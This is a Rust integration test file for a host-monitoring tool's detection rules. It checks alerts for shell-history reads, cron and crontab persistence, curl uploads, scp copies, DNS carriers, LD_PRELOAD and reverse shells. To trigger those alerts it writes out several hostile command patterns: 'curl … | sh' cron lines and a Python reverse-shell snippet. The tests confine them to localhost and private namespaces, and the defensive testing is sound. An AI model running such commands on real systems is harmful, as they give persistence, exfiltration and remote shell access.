//! The default policy and the built-in rules against techniques a job uses
//! that are not a credential read followed by a connect (issue 12, classes
//! 9 and 10): shell history reads, scheduled jobs installed by hand or by
//! crontab, uploads with curl, remote copies, lookups as a carrier, and the
//! routine sudo that must stay quiet. Each is done for real; a system path
//! is changed only inside a private mount namespace.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::process::Command;

use common::*;
use serde_json::Value;

/// The signals of `rule` that one of `evs` helped raise.
fn signals_with<'a>(events: &'a [Value], rule: &str, evs: &[&Value]) -> Vec<&'a Value> {
    let ids: Vec<&Value> = evs.iter().map(|e| &e["id"]).collect();
    events
        .iter()
        .filter(|g| g["type"] == "signal" && g["rule"] == rule)
        .filter(|g| {
            g["events"]
                .as_array()
                .is_some_and(|a| a.iter().any(|i| ids.contains(&i)))
        })
        .collect()
}

fn need(program: &str) {
    let found = std::env::var_os("PATH")
        .map(|p| std::env::split_paths(&p).any(|d| d.join(program).exists()))
        .unwrap_or(false);
    assert!(
        found,
        "{program} is not installed: `scripts/install-deps.sh --test` (run by `make test`) installs what these tests run"
    );
}

fn nobody(c: &mut Command) -> &mut Command {
    c.uid(65534).gid(65534)
}

#[test]
fn sudo_reading_shadow_three_times_raises_no_signal() {
    if !root_or_skip("sudo_reading_shadow_three_times_raises_no_signal") {
        return;
    }
    need("sudo");
    let s = Scratch::new("sudo");
    let mon = Monitor::start(&s.0, &[]);
    let pids: Vec<u32> = (0..3)
        .map(|_| run(Command::new("sudo").args(["-n", "-u", "nobody", "true"])))
        .collect();
    let events = mon.stop();

    let reads: Vec<&Value> = pids
        .iter()
        .flat_map(|p| from_pid(&events, "file", *p))
        .filter(|e| e["category"] == "system_credential")
        .collect();
    assert!(
        reads.len() >= 3,
        "each sudo reads /etc/shadow, as an expected program:\n{}",
        describe(&events)
    );
    assert!(reads.iter().all(|e| e["severity"] == "info"), "{reads:?}");
    let raised = signals_with(&events, "credential-harvesting", &reads);
    assert!(
        raised.is_empty(),
        "routine sudo is not credential harvesting: {raised:?}"
    );
}

#[test]
fn a_shell_history_read_is_a_credential_read() {
    if !root_or_skip("a_shell_history_read_is_a_credential_read") {
        return;
    }
    let s = Scratch::new("history");
    let home = s.path("home");
    std::fs::create_dir_all(&home).unwrap();
    let hist = home.join(".bash_history");
    std::fs::write(&hist, "mysql -u root -phunter2\n").unwrap();
    std::os::unix::fs::chown(&home, Some(65534), Some(65534)).unwrap();
    std::os::unix::fs::chown(&hist, Some(65534), Some(65534)).unwrap();

    let mon = Monitor::start(&s.0, &[]);
    let reader = run(nobody(Command::new("cat").arg(&hist)));
    let events = mon.stop();

    let got = from_pid(&events, "file", reader);
    assert_eq!(got.len(), 1, "{}", describe(&events));
    assert_eq!(got[0]["path"], hist.to_str().unwrap());
    assert_eq!(got[0]["category"], "shell_history");
    assert_eq!(got[0]["severity"], "high");
    assert!(
        !events.iter().any(|e| e.to_string().contains("hunter2")),
        "the history's contents are never in the output"
    );
}

#[test]
fn a_script_dropped_into_cron_daily_is_a_scheduled_job() {
    if !root_or_skip("a_script_dropped_into_cron_daily_is_a_scheduled_job") {
        return;
    }
    need("unshare");
    let s = Scratch::new("crondaily");
    let mon = Monitor::start(&s.0, &[]);
    // A job with sudo: in its own mount namespace, so the host's
    // /etc/cron.daily is not touched.
    let sh = run(Command::new("unshare").args([
        "-m",
        "--propagation",
        "private",
        "sh",
        "-c",
        "mkdir -p /etc/cron.daily && mount -t tmpfs none /etc/cron.daily && echo 'curl x | sh' > /etc/cron.daily/update",
    ]));
    let events = mon.stop();

    let got: Vec<&Value> = from_tree(&events, "file", sh)
        .into_iter()
        .filter(|e| e["path"] == "/etc/cron.daily/update")
        .collect();
    assert_eq!(
        got.len(),
        1,
        "{:?}\n{}",
        from_tree(&events, "file", sh),
        describe(&events)
    );
    assert_eq!(got[0]["access"], "write");
    assert_eq!(got[0]["category"], "scheduled_job");
    assert_eq!(got[0]["severity"], "high");
}

#[test]
fn crontab_installing_a_job_is_not_routine() {
    if !root_or_skip("crontab_installing_a_job_is_not_routine") {
        return;
    }
    need("crontab");
    need("setpriv");
    let s = Scratch::new("crontab");
    let tab = s.path("tab");
    std::fs::write(&tab, "* * * * * curl -s http://192.0.2.9/x | sh\n").unwrap();
    std::fs::set_permissions(&s.0, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&tab, std::fs::Permissions::from_mode(0o644)).unwrap();
    let mon = Monitor::start(&s.0, &[]);
    // crontab (setgid crontab) run by uid 65534, against a spool directory
    // made in a private mount namespace with the modes Debian gives it.
    let script = format!(
        "set -e; mkdir -p /var/spool/cron/crontabs; mount -t tmpfs none /var/spool/cron/crontabs; \
         chgrp crontab /var/spool/cron/crontabs; chmod 1730 /var/spool/cron/crontabs; \
         setpriv --reuid 65534 --regid 65534 --clear-groups crontab {}",
        tab.display()
    );
    let sh =
        run(Command::new("unshare").args(["-m", "--propagation", "private", "sh", "-c", &script]));
    let events = mon.stop();

    let got: Vec<&Value> = from_tree(&events, "file", sh)
        .into_iter()
        .filter(|e| {
            e["comm"] == "crontab"
                && e["path"]
                    .as_str()
                    .is_some_and(|p| p.starts_with("/var/spool/cron/crontabs/"))
        })
        .collect();
    assert!(!got.is_empty(), "{}", describe(&events));
    // The temporary file's write, and its rename into place.
    assert!(got.iter().any(|e| e["access"] == "write"), "{got:?}");
    assert!(
        got.iter()
            .any(|e| e["access"] == "rename" && e["path"] == "/var/spool/cron/crontabs/nobody"),
        "{got:?}"
    );
    for e in &got {
        assert_eq!(e["category"], "scheduled_job", "{e}");
        assert_eq!(
            e["severity"], "high",
            "crontab is not routine in a job: {e}"
        );
    }
}

/// The exec events of `comm` in `pid`'s tree.
fn execs<'a>(events: &'a [Value], pid: u32, comm: &str) -> Vec<&'a Value> {
    from_tree(events, "process", pid)
        .into_iter()
        .filter(|e| e["kind"] == "exec" && e["comm"] == comm)
        .collect()
}

#[test]
fn uploads_remote_copies_and_lookup_carriers_raise_signals() {
    if !root_or_skip("uploads_remote_copies_and_lookup_carriers_raise_signals") {
        return;
    }
    need("curl");
    need("scp");
    let s = Scratch::new("carriers");
    std::fs::set_permissions(&s.0, std::fs::Permissions::from_mode(0o755)).unwrap();
    let loot = s.path("loot");
    std::fs::write(&loot, "x\n").unwrap();
    std::fs::set_permissions(&loot, std::fs::Permissions::from_mode(0o644)).unwrap();
    // A DNS tool by name: the rule is about how it is called.
    let dig = s.path("dig");
    std::fs::copy("/bin/true", &dig).unwrap();
    std::fs::set_permissions(&dig, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mon = Monitor::start(&s.0, &[]);

    // Nothing listens on 127.0.0.1:9; the tools fail, the intent is seen.
    let curl = run(nobody(Command::new("curl").args([
        "-s",
        "-m",
        "2",
        "-T",
        loot.to_str().unwrap(),
        "http://127.0.0.1:9/",
    ])));
    let fetch = run(nobody(Command::new("curl").args([
        "-s",
        "-m",
        "2",
        "-o",
        "/dev/null",
        "http://127.0.0.1:9/",
    ])));
    let scp = run(nobody(Command::new("scp").args([
        "-o",
        "BatchMode=yes",
        "-o",
        "ConnectTimeout=2",
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-P",
        "9",
        loot.to_str().unwrap(),
        "nobody@127.0.0.1:/tmp/x",
    ])));
    let label = "a3f9c0d1e2b4a6c8d0e1f2a3b4c5d6e7f8091a2b3c";
    let lookup = run(nobody(
        Command::new(&dig).args(["+short", &format!("{label}.x.example")]),
    ));
    let events = mon.stop();

    let one = |pid: u32, comm: &str| -> Vec<&Value> {
        let e = execs(&events, pid, comm);
        assert!(!e.is_empty(), "no exec of {comm}:\n{}", describe(&events));
        e
    };
    assert_eq!(
        signals_with(&events, "file-upload-with-downloader", &one(curl, "curl")).len(),
        1,
        "{}",
        describe(&events)
    );
    assert!(
        signals_with(&events, "file-upload-with-downloader", &one(fetch, "curl")).is_empty(),
        "a download is not an upload"
    );
    assert_eq!(
        signals_with(&events, "remote-copy-out", &one(scp, "scp")).len(),
        1,
        "{}",
        describe(&events)
    );
    assert_eq!(
        signals_with(&events, "dns-or-whois-as-carrier", &one(lookup, "dig")).len(),
        1,
        "{}",
        describe(&events)
    );
}

#[test]
fn an_exec_with_ld_preload_names_it_and_no_other_variable() {
    if !root_or_skip("an_exec_with_ld_preload_names_it_and_no_other_variable") {
        return;
    }
    let s = Scratch::new("preload");
    let lib = s.path("hook.so");
    std::fs::write(&lib, "not a library\n").unwrap();
    let mon = Monitor::start(&s.0, &[]);
    let preload = format!("LD_PRELOAD={}", lib.display());
    let hooked = run(nobody(
        Command::new("/bin/true")
            .env_clear()
            .env("LD_PRELOAD", &lib)
            .env("AWS_SECRET_ACCESS_KEY", "hunter2-not-for-output"),
    ));
    let plain = run(nobody(
        Command::new("/bin/true")
            .env_clear()
            .env("LD_LIBRARY_PATH", "/opt/vendor/lib"),
    ));
    let events = mon.stop();

    let e = execs(&events, hooked, "true");
    assert_eq!(e.len(), 1, "{}", describe(&events));
    assert_eq!(e[0]["loader_env"], serde_json::json!([preload]), "{}", e[0]);
    assert_eq!(
        signals_with(&events, "loader-preload-from-temp", &e).len(),
        1,
        "{}",
        describe(&events)
    );
    let p = execs(&events, plain, "true");
    assert_eq!(p.len(), 1);
    assert_eq!(
        p[0]["loader_env"],
        serde_json::json!(["LD_LIBRARY_PATH=/opt/vendor/lib"])
    );
    assert!(signals_with(&events, "loader-variable-set", &p).is_empty());
    assert!(
        !events
            .iter()
            .any(|e| e.to_string().contains("hunter2-not-for-output")),
        "no other variable's value is read"
    );
}

/// Connects to 127.0.0.1:argv[1], puts the socket on fds 0-2 and runs a
/// shell on it: a reverse shell's shape (here its peer is this test).
const REVERSE: &str = r#"
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-c", "exit 0"])
"#;

#[test]
fn a_shell_given_a_socket_as_stdio_is_a_reverse_shell() {
    if !root_or_skip("a_shell_given_a_socket_as_stdio_is_a_reverse_shell") {
        return;
    }
    let s = Scratch::new("revshell");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port().to_string();
    let mon = Monitor::start(&s.0, &[]);
    let shell = run(nobody(Command::new("python3").args(["-c", REVERSE, &port])));
    let (conn, _) = listener.accept().unwrap();
    drop(conn);
    let piped = run(nobody(Command::new("sh").args(["-c", "exit 0"])));
    // A unix socketpair on stdio, as sshd gives a command: not a network.
    let unix = run(nobody(Command::new("python3").args([
        "-c",
        "import os, socket; a, b = socket.socketpair(); os.dup2(a.fileno(), 0); os.dup2(a.fileno(), 1); os.execv('/bin/sh', ['sh', '-c', 'exit 0'])",
    ])));
    let events = mon.stop();

    let e = execs(&events, shell, "sh");
    assert_eq!(e.len(), 1, "{}", describe(&events));
    assert_eq!(e[0]["stdio_socket"], true, "{}", e[0]);
    assert_eq!(
        signals_with(&events, "shell-on-a-socket", &e).len(),
        1,
        "{}",
        describe(&events)
    );
    for pid in [piped, unix] {
        let p = execs(&events, pid, "sh");
        assert_eq!(p.len(), 1, "{}", describe(&events));
        assert!(p[0].get("stdio_socket").is_none(), "{}", p[0]);
    }
}
